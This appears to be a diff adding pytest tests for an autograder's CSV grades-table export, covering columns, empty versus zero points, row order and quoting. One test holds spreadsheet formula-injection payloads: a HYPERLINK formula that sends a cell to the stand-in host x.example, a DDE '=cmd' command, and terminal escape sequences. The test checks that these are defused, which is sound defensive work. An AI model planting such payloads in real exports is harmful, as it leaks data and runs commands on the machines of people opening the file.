@@ -1,0 +1,66 @@
+"""The table opens in a spreadsheet: names whole, formulas dead, withheld points empty."""
+
+import csv
+import io
+from collections.abc import Callable
+
+from autograder.outputs import grades_table
+from autograder.report import Outcome, Report
+from autograder.rubric import Rubric
+
+MakeReport = Callable[..., Report]
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+def test_columns_are_who_then_every_criterion_then_the_totals(
+    rubric: Rubric, make_report: MakeReport
+) -> None:
+    text = grades_table(rubric, [make_report()])
+    assert text.startswith("\ufeff")
+    (row,) = rows(text)
+    who = ["key", "id", "name", "source", "status", "needs_person", "why"]
+    program, people = ([c.id for c in group] for group in (rubric.program, rubric.people))
+    assert list(row) == [*who, *program, *people, "decided", "proposed", "possible"]
+    assert ("陳敬中", "graded", "", "") == (row["name"], row["status"], *(row[n] for n in who[5:]))
+    assert {""} == {row[identity] for identity in people}
+    assert ("40", "15", "100") == (row["decided"], row["proposed"], row["possible"])
+    assert ("20", "0.25") == (row["accuracy.xor"], row["training.again"])
+
+
+def test_withheld_points_are_empty_and_lost_ones_are_zero(
+    rubric: Rubric, make_report: MakeReport
+) -> None:
+    outcomes = {"accuracy.linear": Outcome.NOT_GRADED, "accuracy.xor": Outcome.FAILED}
+    (row,) = rows(grades_table(rubric, [make_report(outcomes, message="odd")]))
+    assert ("", "0") == (row["accuracy.linear"], row["accuracy.xor"])
+    assert ("yes", "accuracy.linear: odd") == (row["needs_person"], row["why"])
+
+
+def test_rows_keep_the_order_they_are_given_in(rubric: Rubric, make_report: MakeReport) -> None:
+    reports = [make_report(key=key) for key in "bca"]
+    assert list("bca") == [row["key"] for row in rows(grades_table(rubric, reports))]
+
+
+def test_no_text_of_a_student_can_act(rubric: Rubric, make_report: MakeReport) -> None:
+    evil = {
+        "name": '=HYPERLINK("http://x.example/?"&B2;"you, "\r\n=1+1',
+        "source": "\x1b]0;owned\x07@SUM(1).zip",
+        "id": "+313551157",
+    }
+    report = make_report(Outcome.NOT_GRADED, message="=cmd|' /C calc'!A0", **evil)
+    text = grades_table(rubric, [report])
+    assert 2 == len(text.splitlines())
+    (row,) = rows(text)
+    assert row["name"] == '\'=HYPERLINK("http://x.example/?"&B2;"you, "\\u000D\\u000A=1+1'
+    assert row["source"] == "\\u001B]0;owned\\u0007@SUM(1).zip"
+    assert row["id"] == "'+313551157"
+    assert row["why"] == "'=cmd|' /C calc'!A0"
+
+
+def test_text_is_quoted_and_numbers_are_not(rubric: Rubric, make_report: MakeReport) -> None:
+    line = grades_table(rubric, [make_report()]).splitlines()[1]
+    assert line.startswith('"313551157","313551157","陳敬中","a.zip","graded",')
+    assert line.endswith(",40,15,100")
